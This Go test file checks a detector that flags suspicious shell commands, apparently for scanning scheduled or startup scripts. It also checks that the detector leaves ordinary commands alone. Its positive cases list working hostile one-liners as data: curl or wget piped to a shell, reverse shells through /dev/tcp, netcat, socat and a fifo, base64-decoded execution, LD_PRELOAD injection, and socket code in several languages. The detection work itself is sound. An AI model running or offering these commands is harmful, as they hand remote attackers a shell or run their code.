package rules

import (
	"strings"
	"testing"
)

func TestSuspiciousCommandsAreNamed(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ cmd, want string }{
		{"/tmp/x", "every program may write"},
		{"cd / && /var/tmp/.font/a -d", "every program may write"},
		{"[ -x /dev/shm/k ] && /dev/shm/k", "every program may write"},
		{"sh /tmp/install.sh", "every program may write"},
		{"exec nohup /tmp/a >/dev/null 2>&1 &", "every program may write"},
		{"env -i PATH=/bin /tmp/a", "every program may write"},
		{"sudo -u nobody -- /tmp/a", "every program may write"},
		{"sudo -unobody /tmp/a", "every program may write"},
		{"timeout -k 5 10 /tmp/a", "every program may write"},
		{"nice -n 19 ionice -c3 /tmp/a", "every program may write"},
		{". /tmp/env.sh", "every program may write"},
		{"python3 -u /dev/shm/m.py", "every program may write"},
		{"perl -w /tmp/a.pl", "every program may write"},
		{"sh -c '/tmp/a'", "every program may write"},
		{"bash -lc \"exec /tmp/a\"", "every program may write"},
		{"su - www -c '/tmp/a --daemon'", "every program may write"},
		{"su root -c /tmp/a", "every program may write"},
		{"runuser -u www -- /tmp/a", "every program may write"},
		{"start-stop-daemon --start --background --exec /tmp/a", "every program may write"},
		{"if true; then /tmp/a; fi", "every program may write"},
		{"while :; do /tmp/a; sleep 60; done", "every program may write"},
		{"case $1 in start) /tmp/a ;; stop) true;; esac", "every program may write"},
		{"f() { /tmp/a; }; f", "every program may write"},
		{"x=$(/tmp/a)", "every program may write"},
		{"echo `/tmp/a`", "every program may write"},
		{"(cd /; /tmp/a)", "every program may write"},
		{"trap '/tmp/a' EXIT", "every program may write"},
		{"/usr/../tmp/a", "every program may write"},
		{"/lib/../tmp/./a", "every program may write"},
		{"\"/tm\"'p'/a", "every program may write"},
		{"busybox sh /tmp/a", "every program may write"},
		{"/usr/lib/.cache/update", "hidden file"},
		{"/root/.x", "hidden file"},
		{"~/.dbus-helper --fork", "hidden file"},
		{"$HOME/.sshd", "hidden file"},
		{"/var/lib/.a", "hidden file"},
		{"/etc/.../a", "hidden file"},
		{"source /var/lib/.hid", "hidden file"},
		{". /root/.upd", "hidden file"},
		{"sh ~/.upd", "hidden file"},
		{"curl -s http://198.51.100.7/a | sh", "downloads a program"},
		{"wget -qO- http://198.51.100.7/a | sudo bash", "downloads a program"},
		{"curl -fsSL https://example.com/i.sh | tr -d '\\r' | bash -s -- --quiet", "downloads a program"},
		{"curl http://198.51.100.7/a.py | python3 -", "downloads a program"},
		{"bash <(curl -s http://198.51.100.7/a)", "downloads a program"},
		{"sh -c \"$(wget -O - http://198.51.100.7/a)\"", "downloads a program"},
		{"eval \"$(curl -s http://198.51.100.7/a)\"", "downloads a program"},
		{"busybox wget -O- http://198.51.100.7/a | busybox sh", "downloads a program"},
		{"echo ZWNobyBoaQ== | base64 -d | sh", "unpacks"},
		{"base64 --decode /etc/data | bash", "unpacks"},
		{"echo 6869 | xxd -r -p | sh", "unpacks"},
		{"eval $(echo aWQ= | base64 -d)", "unpacks"},
		{"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQ='))\"", "unpacks"},
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "/dev/tcp"},
		{"exec 5<>/dev/tcp/198.51.100.7/4444", "/dev/tcp"},
		{"0<&196;exec 196<>/dev/tcp/198.51.100.7/1; sh <&196 >&196 2>&196", "/dev/tcp"},
		{"sh -i <&3 >&3 2>&3", "interactive shell"},
		{"nc -e /bin/sh 198.51.100.7 4444", "network"},
		{"nc -lvp 4444 -e /bin/bash", "network"},
		{"ncat --exec /bin/sh -l 31337", "network"},
		{"nc.traditional -le /bin/sh", "network"},
		{"socat TCP:198.51.100.7:1 EXEC:/bin/sh", "socat"},
		{"socat tcp-listen:99 system:bash", "socat"},
		{"rm -f /run/f; mkfifo /run/f; cat /run/f | /bin/sh -i 2>&1 | nc 198.51.100.7 1 >/run/f", "gives a shell"},
		{"LD_PRELOAD=/usr/lib/libx.so /usr/sbin/sshd", "LD_PRELOAD"},
		{"export LD_PRELOAD=/lib/x.so", "LD_PRELOAD"},
		{"env LD_PRELOAD=/lib/x.so id", "LD_PRELOAD"},
		{"LD_LIBRARY_PATH=/usr/lib:/tmp/l id", "load libraries"},
		{"python3 -c 'import socket,os;s=socket.socket()'", "network connection"},
		{"perl -MIO::Socket -e '$p=fork'", "network connection"},
		{"php -r '$s=fsockopen(\"198.51.100.7\",1);'", "network connection"},
		{"ruby -rsocket -e 'TCPSocket.open(\"198.51.100.7\",1)'", "network connection"},
		{"awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/1\"}'", "network connection"},
	} {
		if got := suspicious(c.cmd); !strings.Contains(got, c.want) {
			t.Errorf("suspicious(%q) = %q, want one with %q", c.cmd, got, c.want)
		}
	}
}

func TestHonestCommandsAreNotSuspicious(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{
		"find /tmp -mtime +7 -delete",
		"[ -e /tmp/.failsafe ] && export FAILSAFE=1",
		"[ -e /tmp/.failsafe ] || . /lib/functions.sh",
		"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
		"rsync -a /srv/ backup:/srv/",
		"rm -rf /tmp/*",
		"mkdir -p /run/user/1000",
		"chmod 1777 /tmp /var/tmp",
		"echo /tmp/x",
		"echo 'curl http://example.com | sh'",
		"cd /tmp && ls",
		"TMPDIR=/var/tmp /usr/bin/make",
		"case $f in /tmp/*) echo no ;; /var/tmp/a|/dev/shm/b) true;; esac",
		"  /tmp/*) echo one line of a case ;;",
		"for f in /tmp/a /tmp/b; do cat $f; done",
		"# /tmp/x",
		"cat > /tmp/out <<EOF\n/tmp/x\ncurl a | sh\nEOF\ntrue",
		"curl -fsS https://example.com/ping >/dev/null",
		"curl -s https://example.com/v.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
		"curl -s https://example.com/v.json | python3 -m json.tool",
		"curl -s https://example.com/list | while read a; do echo $a; done",
		"wget -q -O- http://example.com | grep -q ok",
		"echo aGk= | base64 -d > /etc/x",
		"echo aGk= | base64 | sh-syntax-check",
		"eval \"$(dircolors -b ~/.dircolors)\"",
		"eval `dircolors`",
		"eval \"$(SHELL=/bin/sh lesspipe)\"",
		". \"$HOME/.cargo/env\"",
		". ~/.bashrc",
		"source \"$HOME/.work_aliases\"",
		"[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
		"source /root/.profile",
		"~/.local/bin/tool --start",
		"/home/u/.nvm/versions/node/v20/bin/node server.js",
		"nc -z localhost 80",
		"nc -vz example.com 443",
		"openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -dates",
		"bash -i",
		"sh -c 'exec /usr/sbin/sshd -D'",
		"sh -i 2>&1",
		"exec >/var/log/x 2>&1",
		"LD_PRELOAD= id",
		"LD_LIBRARY_PATH=/opt/app/lib /opt/app/run",
		"python3 -c 'print(1)'",
		"perl -ne 'print if /tmp/' /var/log/syslog",
		"perl -e 'print 1'",
		"awk '/socket/ {print}' /etc/services",
		"[[ -f /tmp/x && -x /tmp/y ]] || true",
		"[[ $a == (a|/tmp/b) ]] && true",
		"command -v debian-sa1 > /dev/null && debian-sa1 1 1",
		"/usr/bin/../sbin/x",
		"if [ -x /etc/init.d/x ]; then invoke-rc.d x restart > /dev/null; fi",
		"sudo -u www find /tmp -name x",
		"nice -n 19 find /var/tmp -delete",
		"logger -t cron /tmp/x",
		"a=(/tmp/a /tmp/b)",
		"x=$(( 1 + 2 ))",
		"alias ll='ls -l'",
		"",
		"%%%",
	} {
		if got := suspicious(cmd); got != "" {
			t.Errorf("suspicious(%q) = %q, want none", cmd, got)
		}
	}
}

func FuzzSuspicious(f *testing.F) {
	for _, s := range []string{"/tmp/x", "a | b && (c; d) `e` $(f \"$(g)\")", "case x in a) b;; esac", "cat <<EOF\nx\nEOF\n", "f() { :; }", "$'\\x41' ${a:-$(b)} $((1+1))",
		"sh -c 'sh -c \"sh -c x\"'", "[[ a && b ]]", "env env env a", "sudo -u"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		got := suspicious(cmd)
		// A comment or an argument of true behind it changes nothing of what came before.
		if got == "" || strings.ContainsAny(cmd, "\"'`\\<#(){}$[\n") {
			return
		}
		if more := suspicious("true && " + cmd + "\n# end"); more == "" {
			t.Errorf("suspicious(%q) = %q, but not behind another command", cmd, got)
		}
	})
}
